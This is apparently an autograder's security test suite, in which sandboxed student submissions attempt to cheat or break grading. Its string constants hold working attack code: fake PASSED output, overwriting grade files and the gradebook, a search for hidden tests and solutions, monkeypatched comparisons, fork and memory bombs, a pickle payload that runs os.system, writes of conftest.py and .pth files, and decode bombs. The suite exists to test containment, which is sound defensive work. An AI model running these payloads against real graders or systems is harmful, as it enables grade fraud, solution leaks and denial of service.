"""Malicious submissions graded through the real pipeline gain nothing and change nothing.

Each attacker is a small package folder, graded in one batch with other attackers and an
honest student (a copy of the example submission ``ada``, full marks). Most attackers are
ada with ``rel_error`` replaced by the attack: that package earns exactly the points of
every test but the two rel_error ones, so any point more is a point the attack stole (and a
``control`` student whose rel_error just raises shows the baseline). Import-time attacks
that would change how the grader compares (patched NumPy, pytest, the grader's own
functions) come with a rel_error that returns a wrong number: if a patch reached the grader,
that wrong number would pass.

For every batch, :func:`attack_kit.run_batch` also checks (``assert_contained``) that the
honest student still gets every point, that the grader finished in time and wrote only its
own files, that nothing outside the out dir changed, that no process of the batch is left,
and that no output file holds a hidden test's source or a solution line.

Groups (one batch each): the sandbox (attacks 1-14 at import and inside rel_error); bad input
and imports that fail (6, 15); what the grader itself reads (the submission's source and file
names); the channel (values cheap to send and costly to read); the students next to an
attacker; and the sandbox an unprivileged grader builds. A test that fails here is a hole:
its docstring says what it found.
"""

from __future__ import annotations

import csv
import os
import re
import socket
import stat
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path
from unittest import mock

import pytest
from attack_kit import (
    COURSE,
    FAST,
    HIDDEN_TEST,
    HONEST,
    SOLUTION_LAYERS,
    TOKEN,
    Batch,
    assert_contained,
    grade,
    honest_files,
    leaks,
    rel_error_attack,
    remove_breaches,
    run_batch,
    secrets,
    uses_rel_error,
    write_submission,
)
from helpers import copy_package

from autograder.grading.model import Status
from autograder.sandbox import launcher

pytestmark = pytest.mark.attacks


def fill(source: str, **values: object) -> str:
    """``source`` with every ``@NAME@`` replaced by ``values[NAME]`` (and ``@TOKEN@``)."""
    for name, value in {"TOKEN": TOKEN, **values}.items():
        source = source.replace(f"@{name}@", str(value))
    assert not re.search(r"@[A-Z]+@", source), f"unfilled placeholder in {source}"
    return source


def with_init(extra: str, body: str = "return -1.0") -> dict[str, str]:
    """ada with ``extra`` run at the end of ``__init__.py`` (import time) and ``rel_error``
    replaced by ``body`` (by default a wrong answer: a relative error is never negative)."""
    files = rel_error_attack(body)
    files["__init__.py"] += "\n" + extra
    return files


def assert_earned_only_honest_part(batch: Batch, student: str, status: str = Status.GRADED):
    """``student`` passed exactly the tests that do not call rel_error."""
    result = batch[student]
    wrong = [t.test for t in result.tests if t.passed == uses_rel_error(t.test)]
    assert not wrong, f"{student}: unexpected outcome of {wrong}\n{batch.everything(student)}"
    earned = sum(t.max_points for t in result.tests if not uses_rel_error(t.test))
    assert result.score == earned < result.max_score, batch.everything(student)
    assert result.status == status, (result.status, result.reason)
    assert_contained(batch)


def test_leak_check_finds_hidden_content(tmp_path) -> None:
    """The leak check looks for strings that really are in the hidden test and the solution,
    and finds one planted in an output file."""
    found = secrets()
    hidden = HIDDEN_TEST.read_text(encoding="utf-8")
    solution = SOLUTION_LAYERS.read_text(encoding="utf-8")
    assert "def test_affine_backward_db(student, reference, inputs, data):" in found
    assert "db = dout.sum(axis=0)" in found
    assert all(s in hidden or s in solution for s in found)
    (tmp_path / "feedback").mkdir()
    (tmp_path / "feedback" / "x.md").write_text(f"ok\n{found[-1]}\n", encoding="utf-8")
    (tmp_path / "grades.csv").write_text("student,score\n", encoding="utf-8")
    assert leaks(tmp_path) == [f"feedback/x.md: {[found[-1]]}"]


# --- The sandbox group: attacks at import and inside rel_error ------------------------------

#: 1. Fake results: a Gradescope-style JSON with score 100 and "PASSED" lines, on stdout,
#: stderr and the raw file descriptors 1 and 2, at import and in every call.
FAKE_RESULTS = """
import json as _json
import os as _os
import sys as _sys

_FAKE_NAMES = ["affine_forward", "rel_error", "softmax_loss"]
_FAKE = _json.dumps({"score": 100, "output": "FAKE-@TOKEN@ all passed", "tests": [
    {"name": n, "score": 100, "max_score": 100, "status": "passed"} for n in _FAKE_NAMES]})


def _shout():
    lines = [_FAKE, "FAKE-@TOKEN@", "Score: 100 / 40", "===== 40 passed in 0.01s ====="]
    lines += [f"tests/test_{n}.py::test_{n} PASSED" for n in _FAKE_NAMES]
    for line in lines:
        print(line)
        print(line, file=_sys.stderr)
        _os.write(1, (line + "\\n").encode())
        _os.write(2, (line + "\\n").encode())
    _sys.stdout.flush()


_shout()
"""
FAKE_RESULTS_BODY = "from . import _shout\n_shout()\nreturn -1.0"

#: 2. Overwrite the grader's outputs (their real absolute paths baked in) and the course.
OVERWRITE_OUTPUTS = """
import json as _json
import os as _os
import sqlite3 as _sqlite3

_OUT = "@OUT@"
_COURSE = "@COURSE@"


def _overwrite():
    report = []
    fake = _json.dumps({"score": 100, "output": "OUTWRITE-@TOKEN@"})
    targets = {
        _OUT + "/grades.csv": "student,score\\n@STUDENT@,100\\nhonest,0\\n",
        _OUT + "/results/@STUDENT@/results.json": fake,
        _OUT + "/results/honest/results.json": fake.replace("100", "0"),
        _OUT + "/feedback/honest.md": "OUTWRITE-@TOKEN@",
        _OUT + "/staging/honest/a1_backprop/layers.py": "raise SystemExit  # OUTWRITE-@TOKEN@",
        _OUT + "/gradebook.sqlite-wal": "OUTWRITE-@TOKEN@",
        _OUT + "/OUTWRITE-@TOKEN@.txt": "OUTWRITE-@TOKEN@",
    }
    for path, text in targets.items():
        try:
            with open(path, "w") as handle:
                handle.write(text)
            report.append("WROTE " + path)
        except OSError as err:
            report.append(f"{type(err).__name__} {path}")
    try:
        db = _sqlite3.connect(_OUT + "/gradebook.sqlite")
        db.execute("UPDATE submissions SET score = 100 WHERE student = '@STUDENT@'")
        db.execute("UPDATE submissions SET score = 0 WHERE student = 'honest'")
        db.commit()
        report.append("WROTE gradebook")
    except Exception as err:
        report.append(f"{type(err).__name__} gradebook")
    course = [
        _COURSE + "/solutions/a1_backprop/layers.py",
        _COURSE + "/solutions/a1_backprop/tests/hidden/test_layers_hidden.py",
        _COURSE + "/solutions/a1_backprop/OUTWRITE-@TOKEN@.py",
    ]
    for path in course:  # appended to, never truncated: were the sandbox to fail, it shows
        try:
            with open(path, "a") as handle:
                handle.write("\\n# OUTWRITE-@TOKEN@\\n")
            report.append("WROTE " + path)
        except OSError as err:
            report.append(f"{type(err).__name__} {path}")
    return report


_overwrite()
"""
OVERWRITE_OUTPUTS_BODY = """
from . import _overwrite
raise RuntimeError("OUTWRITE-@TOKEN@ " + "; ".join(_overwrite()))
"""

#: 3. Read a hidden test and the solution (their real paths baked in, and searched for over
#: the whole file system once), leak them in an exception message (shown in the feedback) on
#: odd calls and as the return value on even ones.
LEAK_HIDDEN = """
import os as _os

_PATHS = ["@HIDDEN@", "@LAYERS@", "/proc/1/root@HIDDEN@", "/proc/self/root@LAYERS@"]


def _search():
    found, report, seen = [], [], 0
    for path in _PATHS:
        try:
            with open(path) as handle:
                found.append(handle.read())
        except OSError as err:
            report.append(f"{type(err).__name__}: {path}")
    for folder, dirs, names in _os.walk("/"):
        dirs[:] = [d for d in dirs if folder != "/" or d not in ("proc", "sys", "dev")]
        for name in names:
            seen += 1
            wanted = name.startswith("test_") and "hidden" in name
            if wanted or (name == "layers.py" and not folder.startswith("/submission")):
                try:
                    with open(_os.path.join(folder, name)) as handle:
                        text = handle.read()
                except (OSError, UnicodeDecodeError):
                    continue
                if wanted or "BEGIN SOLUTION" in text:  # not another library's layers.py
                    found.append(text)
        if seen > 200000:
            break
    report.append(f"searched {seen} files")
    return found, report


_FOUND, _REPORT = _search()
"""
LEAK_HIDDEN_BODY = """
from . import _FOUND, _REPORT
text = "\\n".join(_FOUND)
global _calls
_calls = globals().get("_calls", 0) + 1
if _calls % 2:
    raise RuntimeError(f"LEAK-@TOKEN@ {len(_FOUND)} files {_REPORT}: {text[:1500]}")
return text or "nothing"
"""

#: 4. Monkeypatch NumPy, pytest and the grader's comparisons at import.
MONKEYPATCH = """
import sys as _sys

import numpy as _np
import numpy.testing as _npt

_np.allclose = lambda *args, **kwargs: True
_np.isclose = lambda *args, **kwargs: True
_np.array_equal = lambda *args, **kwargs: True
_npt.assert_allclose = lambda *args, **kwargs: None
_npt.assert_array_almost_equal = lambda *args, **kwargs: None
_PATCHED = ["numpy"]
try:
    import pytest as _pytest

    _skip, _xfail = _pytest.skip, _pytest.xfail
    _pytest.fail = lambda *args, **kwargs: None
    _pytest.skip = lambda *args, **kwargs: None
    _PATCHED.append("pytest")
except ImportError:
    _pytest = None
for _module_name in ("autograder.testing.compare", "autograder.testing"):
    try:
        __import__(_module_name)
    except ImportError:
        pass
for _module in list(_sys.modules.values()):
    if hasattr(_module, "assert_close"):
        _module.assert_close = lambda *args, **kwargs: None
        _PATCHED.append(_module.__name__)
"""
MONKEYPATCH_BODY = """
from . import _PATCHED, _pytest
global _calls
_calls = globals().get("_calls", 0) + 1
if _pytest is not None and _calls == 1:
    from . import _skip
    _skip("PATCH-@TOKEN@ skipped")
if _pytest is not None and _calls == 2:
    from . import _xfail
    _xfail("PATCH-@TOKEN@ xfailed")
if _calls == 3:
    raise AssertionError("PATCH-@TOKEN@ " + ", ".join(_PATCHED))
return -1.0
"""

#: 5. Look for the expected value in the callers' frames, in the containers gc knows and in
#: a reference implementation found in sys.modules; return whatever it finds.
FRAME_GC_BODY = """
import gc
import sys

import numpy as np

from_frames, from_gc, from_modules, frames = [], [], [], 0
for depth in range(1, 11):
    try:
        frame = sys._getframe(depth)
    except ValueError:
        break
    frames += 1
    for key in ("want", "expected", "case", "cases", "reference"):
        if key in frame.f_locals:
            from_frames.append(frame.f_locals[key])
objects = gc.get_objects()
for obj in objects:  # a test case: {"x": ..., "out": expected} or (x, y, want)
    if isinstance(obj, dict) and isinstance(obj.get("out"), (float, np.ndarray)):
        from_gc.append(obj["out"])
    elif isinstance(obj, tuple) and len(obj) == 3 and isinstance(obj[0], list):
        from_gc.append(obj[2])
for name, module in list(sys.modules.items()):
    function = getattr(module, "rel_error", None)
    if callable(function) and not name.startswith("a1_backprop"):
        from_modules.append(function(x, y))
found = from_frames + from_gc + from_modules
global _calls
_calls = globals().get("_calls", 0) + 1
if found and _calls % 2 == 0:
    return found[0]
raise RuntimeError(
    f"FRAMES-@TOKEN@ {frames} frames, {len(objects)} objects: {len(from_frames)} in frames, "
    f"{len(from_gc)} from gc, {len(from_modules)} from modules"
)
"""

#: 6. Exits: inside a function (os._exit gives no answer; sys.exit is an exception).
OS_EXIT_BODY = "import os\nos._exit(0)"
SYS_EXIT_BODY = "import sys\nsys.exit(0)"
#: 7. Hangs.
LOOP_BODY = "while True:\n    pass"
SLEEP_BODY = "import time\ntime.sleep(1000)\nreturn -1.0"
#: 8. Memory bombs: 50 GB at once, and 100 MB at a time until 50 GB (reporting how far).
MEMORY_NUMPY_BODY = "import numpy as np\nreturn float(np.ones(50 * 10**9 // 8).sum())"
MEMORY_BYTEARRAY_BODY = """
chunks = []
try:
    for _ in range(500):
        chunks.append(bytearray(100 * 10**6))
except MemoryError:
    pass
raise RuntimeError(f"MEMORY-@TOKEN@ {len(chunks)} chunks of 100 MB")
"""
#: 9. Fork bomb, capped at 5000 (were the sandbox to fail): each child becomes a `sleep`
#: whose name carries the token, so a survivor shows in the host's process table.
FORK_BODY = """
import os

forked, error = 0, ""
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError as err:
        error = type(err).__name__
        break
    if pid == 0:
        try:
            os.execv("/usr/bin/sleep", ["sleep-@TOKEN@", "300"])
        finally:
            os._exit(0)
    forked += 1
raise RuntimeError(f"FORK-@TOKEN@ forked {forked} ({error})")
"""
#: 10. Output flood.
FLOOD_BODY = 'while True:\n    print("FLOOD-@TOKEN@ " * 100)'
#: 11. Network: the test's own listening sockets on loopback, and the internet.
NETWORK = """
import socket as _socket


def _connect():
    report = []
    for host, port in (("127.0.0.1", @TCP@), ("localhost", @TCP@), ("1.1.1.1", 80)):
        try:
            with _socket.create_connection((host, port), timeout=1) as conn:
                conn.sendall(b"NET-@TOKEN@")
            report.append(f"connected {host}:{port}")
        except OSError as err:
            report.append(f"{host}:{port} {type(err).__name__}")
    try:
        with _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM) as udp:
            udp.sendto(b"NET-@TOKEN@", ("127.0.0.1", @UDP@))
        report.append("sent udp")
    except OSError as err:
        report.append(f"udp {type(err).__name__}")
    try:
        _socket.getaddrinfo("example.com", 80)
        report.append("resolved example.com")
    except OSError as err:
        report.append(f"dns {type(err).__name__}")
    return report


_connect()
"""
NETWORK_BODY = """
from . import _connect
raise RuntimeError("NET-@TOKEN@ " + "; ".join(_connect()))
"""
#: 12. Values whose unpickling runs code, in every shape a value can take.
PICKLE = """
import os as _os

import numpy as _np


class _Evil:
    def __reduce__(self):
        return (_os.system, ("touch /tmp/PWNED-pickle-@TOKEN@",))


class _EvilFloat(float):
    def __reduce__(self):
        return (_os.system, ("touch /tmp/PWNED-pickle-@TOKEN@",))


def _evil_values():
    evil = _Evil()
    array = _np.empty(2, dtype=object)
    array[:] = [evil, evil]
    return [evil, (evil, evil), [evil], {"value": evil}, array, _EvilFloat(-1.0)]
"""
PICKLE_BODY = """
from . import _evil_values
global _calls
_calls = globals().get("_calls", 0) + 1
values = _evil_values()
return values[_calls % len(values)]
"""
#: 13. Writes outside the sandbox: /tmp, its own package folder, a conftest.py next to
#: itself and above it, its submission and staging folders (host paths baked in), the
#: Python environment, the hidden tests folder.
WRITE_OUTSIDE = """
import os as _os
import site as _site
import sys as _sys

_HERE = _os.path.dirname(_os.path.abspath(__file__))


def _write_outside():
    targets = [
        "/tmp/evil-@TOKEN@",
        _os.path.join(_HERE, "evil_@TOKEN@.py"),
        _os.path.join(_HERE, "conftest.py"),
        _os.path.join(_os.path.dirname(_HERE), "conftest.py"),
        "@ROOT@/submissions/@STUDENT@/conftest.py",
        "@ROOT@/out/staging/@STUDENT@/a1_backprop/conftest.py",
        "@COURSE@/solutions/a1_backprop/tests/hidden/conftest.py",
        "@COURSE@/conftest_@TOKEN@.py",
        "/opt/autograder-worker/evil_@TOKEN@.py",
        _os.path.join(_sys.prefix, "evil_@TOKEN@.txt"),
    ]
    targets += [_os.path.join(p, "evil_@TOKEN@.pth") for p in _site.getsitepackages()]
    report = []
    for path in targets:
        try:
            with open(path, "w") as handle:
                handle.write("# WRITE-@TOKEN@\\n")
            report.append("WROTE " + path)
        except OSError as err:
            report.append(f"{type(err).__name__} {path}")
    return report


_write_outside()
"""
WRITE_OUTSIDE_BODY = """
from . import _write_outside
raise RuntimeError("WRITE-@TOKEN@ " + "; ".join(_write_outside()))
"""
#: 14. Segfault.
SEGFAULT_BODY = "import ctypes\nctypes.string_at(0)\nreturn -1.0"


@pytest.fixture(scope="module")
def servers() -> Iterator[tuple[socket.socket, socket.socket]]:
    """A TCP listener and a UDP socket on the host's loopback that no attack may reach."""
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    with tcp, udp:
        udp.bind(("127.0.0.1", 0))
        tcp.setblocking(False)
        udp.setblocking(False)
        yield tcp, udp


def _course_targets() -> tuple[Path, ...]:
    return (
        COURSE / "solutions" / "a1_backprop" / f"OUTWRITE-{TOKEN}.py",
        COURSE / "solutions" / "a1_backprop" / "tests" / "hidden" / "conftest.py",
        COURSE / f"conftest_{TOKEN}.py",
        Path(f"/tmp/evil-{TOKEN}"),
        Path(f"/tmp/PWNED-pickle-{TOKEN}"),
    )


@pytest.fixture(scope="module")
def sandbox_batch(tmp_path_factory, servers) -> Iterator[Batch]:
    """Every attack that runs at import or inside rel_error, graded in one batch."""
    root = tmp_path_factory.mktemp("sandbox")
    tcp, udp = servers
    ports = {"TCP": tcp.getsockname()[1], "UDP": udp.getsockname()[1]}

    def attacker(student: str, extra: str = "", body: str = "return -1.0") -> dict[str, str]:
        values = {
            "OUT": root / "out",
            "ROOT": root,
            "COURSE": COURSE,
            "HIDDEN": HIDDEN_TEST,
            "LAYERS": SOLUTION_LAYERS,
            "STUDENT": student,
            **ports,
        }
        return with_init(fill(extra, **values), fill(body, **values))

    attackers = {
        "control": attacker("control", body='raise RuntimeError("not done")'),
        "fake_results": attacker("fake_results", FAKE_RESULTS, FAKE_RESULTS_BODY),
        "overwrite_outputs": attacker(
            "overwrite_outputs", OVERWRITE_OUTPUTS, OVERWRITE_OUTPUTS_BODY
        ),
        "leak_hidden": attacker("leak_hidden", LEAK_HIDDEN, LEAK_HIDDEN_BODY),
        "monkeypatch": attacker("monkeypatch", MONKEYPATCH, MONKEYPATCH_BODY),
        "frame_gc": attacker("frame_gc", body=FRAME_GC_BODY),
        "os_exit_in_function": attacker("os_exit_in_function", body=OS_EXIT_BODY),
        "sys_exit_in_function": attacker("sys_exit_in_function", body=SYS_EXIT_BODY),
        "infinite_loop": attacker("infinite_loop", body=LOOP_BODY),
        "sleep": attacker("sleep", body=SLEEP_BODY),
        "memory_numpy": attacker("memory_numpy", body=MEMORY_NUMPY_BODY),
        "memory_bytearray": attacker("memory_bytearray", body=MEMORY_BYTEARRAY_BODY),
        "fork_bomb": attacker("fork_bomb", body=FORK_BODY),
        "output_flood": attacker("output_flood", body=FLOOD_BODY),
        "network": attacker("network", NETWORK, NETWORK_BODY),
        "pickle": attacker("pickle", PICKLE, PICKLE_BODY),
        "write_outside": attacker("write_outside", WRITE_OUTSIDE, WRITE_OUTSIDE_BODY),
        "segfault": attacker("segfault", body=SEGFAULT_BODY),
    }
    targets = _course_targets()
    try:
        yield run_batch(root, attackers, deadline=180, forbidden_paths=targets)
    finally:
        remove_breaches(targets)


def test_control_earns_exactly_the_honest_part(sandbox_batch: Batch) -> None:
    """The baseline: ada with a rel_error that raises earns every test but rel_error's."""
    assert_earned_only_honest_part(sandbox_batch, "control")
    assert sandbox_batch[HONEST].score == sandbox_batch[HONEST].max_score


def test_printing_fake_results(sandbox_batch: Batch) -> None:
    """1. Fake JSON and PASSED lines on every output stream are not grades."""
    assert_earned_only_honest_part(sandbox_batch, "fake_results")
    for path in sandbox_batch.out.rglob("*"):
        if path.is_file() and "staging" not in path.parts:
            assert f"FAKE-{TOKEN}".encode() not in path.read_bytes(), path


def test_writing_the_graders_outputs(sandbox_batch: Batch) -> None:
    """2. The out dir's files and the course, at their real paths, are out of reach."""
    assert_earned_only_honest_part(sandbox_batch, "overwrite_outputs")
    report = sandbox_batch.everything("overwrite_outputs")
    assert f"OUTWRITE-{TOKEN}" in report  # the attack ran and reported
    assert "WROTE" not in report, report


def test_reading_hidden_tests_and_solution(sandbox_batch: Batch) -> None:
    """3. The hidden tests and the solution are not there to read, so nothing leaks through
    an exception message (which does reach the feedback) or a return value."""
    assert_earned_only_honest_part(sandbox_batch, "leak_hidden")
    feedback = sandbox_batch.feedback("leak_hidden")
    assert f"LEAK-{TOKEN} 0 files" in feedback, feedback  # the channel a leak would use works


def test_monkeypatching_numpy_pytest_and_grader(sandbox_batch: Batch) -> None:
    """4. Patched np.allclose, assert_allclose, pytest.fail/skip and assert_close change only
    the worker: a wrong rel_error still fails, and pytest.skip/xfail in a call is a failure."""
    assert_earned_only_honest_part(sandbox_batch, "monkeypatch")
    tests = {t.test: t for t in sandbox_batch["monkeypatch"].tests}
    assert f"Skipped: PATCH-{TOKEN}" in tests["test_rel_error_examples"].feedback
    # The xfail raised in its first call did not excuse the test (hypothesis reports one
    # failure: the xfail, or a wrong value of a later call).
    assert tests["test_rel_error_matches_reference"].points == 0


def test_frame_inspection_and_gc_scanning(sandbox_batch: Batch) -> None:
    """5. The caller's frames, gc's objects and sys.modules hold no expected value."""
    assert_earned_only_honest_part(sandbox_batch, "frame_gc")
    report = sandbox_batch.everything("frame_gc")
    assert f"FRAMES-{TOKEN}" in report, report
    assert "0 in frames, 0 from gc, 0 from modules" in report, report


@pytest.mark.parametrize(
    ("student", "says"),
    [("os_exit_in_function", "exit code 0"), ("sys_exit_in_function", "SystemExit")],
)
def test_exit_in_a_function(sandbox_batch: Batch, student: str, says: str) -> None:
    """6. os._exit(0) and sys.exit(0) in a call fail that call's tests, nothing more."""
    assert_earned_only_honest_part(sandbox_batch, student)
    assert says in sandbox_batch.everything(student)


@pytest.mark.parametrize(
    ("student", "says"),
    [
        ("infinite_loop", f"used more than {FAST.call_timeout:g} s of CPU time"),
        ("sleep", f"did not finish within {FAST.call_timeout * FAST.wall_factor:g} s (wall-clock"),
    ],
)
def test_hanging_function(sandbox_batch: Batch, student: str, says: str) -> None:
    """7. An infinite loop is stopped by the call's CPU-time limit, a long sleep by the
    wall-clock backstop; each says which."""
    assert_earned_only_honest_part(sandbox_batch, student, Status.TIMED_OUT)
    reason = sandbox_batch[student].reason
    assert "test_rel_error_examples" in reason and "test_rel_error_matches" in reason
    assert says in sandbox_batch.everything(student)


def test_memory_bomb_numpy(sandbox_batch: Batch) -> None:
    """8. Allocating 50 GB at once hits the worker's memory limit: a MemoryError."""
    assert_earned_only_honest_part(sandbox_batch, "memory_numpy")
    assert "MemoryError" in sandbox_batch.everything("memory_numpy")


def test_memory_bomb_bytearray(sandbox_batch: Batch) -> None:
    """8. Allocating 100 MB at a time towards 50 GB stops at the worker's memory limit (or,
    on a slow machine, at the call timeout), far below 50 GB."""
    result = sandbox_batch["memory_bytearray"]
    status = Status.GRADED if result.status == Status.GRADED else Status.TIMED_OUT
    assert_earned_only_honest_part(sandbox_batch, "memory_bytearray", status)
    text = sandbox_batch.everything("memory_bytearray")
    for chunks in re.findall(rf"MEMORY-{TOKEN} (\d+) chunks", text):
        assert int(chunks) * 100 * 10**6 <= FAST.memory, text


def test_fork_bomb(sandbox_batch: Batch) -> None:
    """9. Forking is capped by the process limit and every child dies with the sandbox."""
    assert_earned_only_honest_part(sandbox_batch, "fork_bomb")
    text = sandbox_batch.everything("fork_bomb")
    forked = [int(n) for n in re.findall(rf"FORK-{TOKEN} forked (\d+)", text)]
    assert forked and max(forked) < FAST.processes, text


def test_output_flood(sandbox_batch: Batch) -> None:
    """10. Printing forever is stopped at the output limit."""
    assert_earned_only_honest_part(sandbox_batch, "output_flood")
    assert "printed more than" in sandbox_batch.everything("output_flood")


def test_network(sandbox_batch: Batch, servers) -> None:
    """11. No connection reaches the host's loopback or the internet."""
    assert_earned_only_honest_part(sandbox_batch, "network")
    report = sandbox_batch.everything("network")
    assert f"NET-{TOKEN}" in report, report  # it ran (a UDP send "succeeds" into the void)
    assert "connected" not in report and "resolved" not in report, report
    tcp, udp = servers
    with pytest.raises(BlockingIOError):
        tcp.accept()
    with pytest.raises(BlockingIOError):
        udp.recvfrom(100)


def test_unpickling_return_value(sandbox_batch: Batch) -> None:
    """12. A returned object whose unpickling runs code is never unpickled by the grader."""
    assert_earned_only_honest_part(sandbox_batch, "pickle")
    assert not Path(f"/tmp/PWNED-pickle-{TOKEN}").exists()


def test_writing_outside_the_sandbox(sandbox_batch: Batch) -> None:
    """13. Only the worker's private /tmp is writable: not the host's /tmp, not its own
    package, no conftest.py anywhere the grader would read it, not the environment."""
    assert_earned_only_honest_part(sandbox_batch, "write_outside")
    report = sandbox_batch.everything("write_outside")
    wrote = re.findall(r"WROTE ([^;\s]+)", report)
    assert wrote == [f"/tmp/evil-{TOKEN}"] * len(wrote), report
    staged = sandbox_batch.out / "staging" / "write_outside" / "a1_backprop"
    assert sorted(p.name for p in staged.iterdir()) == sorted(honest_files())


@pytest.mark.parametrize(
    ("student", "kind"),
    [
        ("fork_bomb", "new process"),
        ("output_flood", "output flood"),
        ("network", "network connection"),
        ("write_outside", "write outside /tmp"),
    ],
)
def test_the_instructor_sees_what_the_sandbox_stopped(
    sandbox_batch: Batch, student: str, kind: str
) -> None:
    """6 (issue 11). What an attack tried and the sandbox stopped is kept in the gradebook
    and grades.csv's sandbox column, not in what the student reads (feedback, results.json),
    and an honest student has nothing there."""
    result = sandbox_batch[student]
    assert any(incident.startswith(kind) for incident in result.incidents), result.incidents
    with open(sandbox_batch.out / "grades.csv", newline="", encoding="utf-8") as file:
        rows = {row["student"]: row for row in csv.DictReader(file)}
    assert kind in rows[student]["sandbox"]
    assert rows[HONEST]["sandbox"] == "" and sandbox_batch[HONEST].incidents == ()
    for shown in (
        sandbox_batch.out / "feedback" / f"{student}.md",
        sandbox_batch.out / "results" / student / "results.json",
    ):
        assert kind not in shown.read_text(encoding="utf-8"), shown


def test_segfault(sandbox_batch: Batch) -> None:
    """14. A segfault in a call fails that call's tests, nothing more."""
    assert_earned_only_honest_part(sandbox_batch, "segfault")
    assert "SIGSEGV" in sandbox_batch.everything("segfault")


# --- Bad input and attacks that stop the import ---------------------------------------------


@pytest.fixture(scope="module")
def import_batch(tmp_path_factory) -> Batch:
    """Submissions that never import, or are not valid: one batch."""
    honest = honest_files()

    def at_import(code: str) -> dict[str, str]:
        return {**honest, "__init__.py": honest["__init__.py"] + code}

    attackers: dict[str, dict[str, str | bytes]] = {
        "sys_exit_at_import": at_import("import sys\nsys.exit(0)\n"),
        "os_exit_at_import": at_import("import os\nos._exit(0)\n"),
        "hang_at_import": at_import("import time\ntime.sleep(1000)\n"),
        "syntax_error": {**honest, "layers.py": honest["layers.py"] + "\ndef broken(:\n"},
        "not_utf8": {**honest, "losses.py": honest["losses.py"].encode() + b"# caf\xe9\n"},
    }
    return run_batch(tmp_path_factory.mktemp("imports"), attackers, deadline=100)


#: A sleep at import is stopped by the wall-clock backstop of the import's CPU limit.
IMPORT_BACKSTOP = FAST.startup_timeout * FAST.wall_factor


@pytest.mark.parametrize(
    ("student", "status", "says"),
    [
        ("sys_exit_at_import", Status.DID_NOT_IMPORT, "SystemExit"),
        ("os_exit_at_import", Status.DID_NOT_IMPORT, "exit code 0"),
        ("hang_at_import", Status.DID_NOT_IMPORT, f"{IMPORT_BACKSTOP:g} s (wall-clock"),
        ("syntax_error", Status.DID_NOT_IMPORT, "SyntaxError"),
        ("not_utf8", Status.INVALID, "losses.py is not valid UTF-8"),
    ],
)
def test_submission_that_does_not_import(
    import_batch: Batch, student: str, status: str, says: str
) -> None:
    """6 and 15. sys.exit / os._exit / a hang at import, a syntax error, a file that is not
    UTF-8: score 0, a status and a reason the student can act on (a hang is said to be one,
    with its time limit), and the batch goes on, in about the time grading a wrong submission
    takes (the batch's deadline allows three times that). (It does not: the proxy re-raises
    the one StudentImportError instance for every later call, its traceback grows by three
    frames each time, and hypothesis walks it for every failing example, so one package that
    does not import costs 4 to 9 minutes; and a hang at import is reported as "stopped ...
    (still running): a crash, a call to sys.exit or os._exit, or a resource limit".)"""
    result = import_batch[student]
    assert (result.status, result.score) == (status, 0.0), result.reason
    assert says in result.reason, result.reason
    assert not any(t.passed for t in result.tests)
    assert_contained(import_batch)


# --- Attacks on what the grader itself reads: the submission's source and file names --------


@pytest.mark.parametrize("depth", [2000, 10000])
def test_deep_attribute_chain_in_source(make_submission, tmp_path, depth: int) -> None:
    """A module (never imported) holding ``np.a.a.a...``, 2000 deep (valid Python) or 10000
    deep (too deep for Python's parser): the grader reads every module for forbidden calls,
    and must not crash on it (it does: RecursionError out of forbidden.scan, from
    ``_resolve`` or from ``ast.parse``, ends the whole batch; rerun, it ends the same way)."""
    chain = "import numpy as np\n\n\ndef chain():\n    return np" + ".a" * depth + "\n"
    make_submission("deep_chain", {**honest_files(), "notes.py": chain})
    batch = run_batch(tmp_path, {}, deadline=120)
    result = batch["deep_chain"]
    assert result.score in (0.0, result.max_score), result  # the rest is ada's code
    assert_contained(batch)


def test_non_utf8_file_name(make_submission, tmp_path) -> None:
    """A submitted file whose name is not UTF-8 (here holding a forbidden import, so that the
    name ends up in the reason) must not crash the grader (it does: the gradebook cannot
    store the reason, and the batch ends)."""
    make_submission("odd_name", {**honest_files(), "\udcff.py": "import torch\n"})
    assert (tmp_path / "submissions" / "odd_name" / os.fsdecode(b"\xff.py")).is_file()
    batch = run_batch(tmp_path, {}, deadline=120)
    assert batch["odd_name"].score == 0, batch["odd_name"]  # torch is forbidden
    assert_contained(batch)


# --- Attacks on the channel: values that are cheap to send and costly to read ---------------

#: A tuple nested 250 deep: about 1 KB on the wire, and each level decoded by a nested call
#: of msgpack's unpacker (a large C stack frame) through the codec's TUPLE extension.
NESTED_TUPLE_BODY = """
value = ()
for _ in range(250):
    value = (value,)
return value
"""
#: 20 million empty maps: a 20 MB message (under the 64 MiB cap) that decodes to 1.4 GB of
#: Python objects in the grader; sent once, then a wrong number.
DECODE_BOMB_BODY = """
global _sent
if not globals().get("_sent"):
    _sent = True
    return [{}] * 20_000_000
return -1.0
"""


def test_deeply_nested_return_value(tmp_path) -> None:
    """A value nested 250 deep is refused, not fatal: the grader's decoder must not recurse
    without bound. (It does: each TUPLE level is decoded by a nested msgpack.unpackb, the
    grader's pytest process dies of a segfault, run_tests raises, and the whole batch ends;
    rerun, it ends the same way: one student stops everyone's grading.)"""
    batch = run_batch(tmp_path, {"nested": rel_error_attack(NESTED_TUPLE_BODY)}, deadline=120)
    assert_earned_only_honest_part(batch, "nested")


def test_decoding_is_bounded(tmp_path) -> None:
    """A 20 MB message must not cost the grader much more memory than its size: the memory
    limit protects the machine only if the trusted side cannot be made to allocate 70 times
    what the worker sends. (It can: msgpack allows as many objects as the message has bytes,
    and 20 million empty maps take 1.4 GB; at the 64 MiB cap, about 4.5 GB per grading
    process.)"""
    batch = run_batch(tmp_path, {"decode_bomb": rel_error_attack(DECODE_BOMB_BODY)}, deadline=120)
    assert_earned_only_honest_part(batch, "decode_bomb")
    assert batch.peak_rss is not None and batch.peak_rss < 1024**3, batch.peak_rss


# --- Attacks on the other students of the same batch -----------------------------------------

#: At import, fork until the process limit says no; each child sleeps, named by the token.
HOLD_PROCESSES = """
import os as _os


def _hold():
    for _ in range(5000):
        try:
            pid = _os.fork()
        except OSError:
            return
        if pid == 0:
            try:
                _os.execv("/usr/bin/sleep", ["sleep-@TOKEN@", "300"])
            finally:
                _os._exit(0)


_hold()
"""
#: A correct rel_error that runs its work in a thread (legitimate code).
THREADED_REL_ERROR = """
import concurrent.futures

import numpy as np


def work():
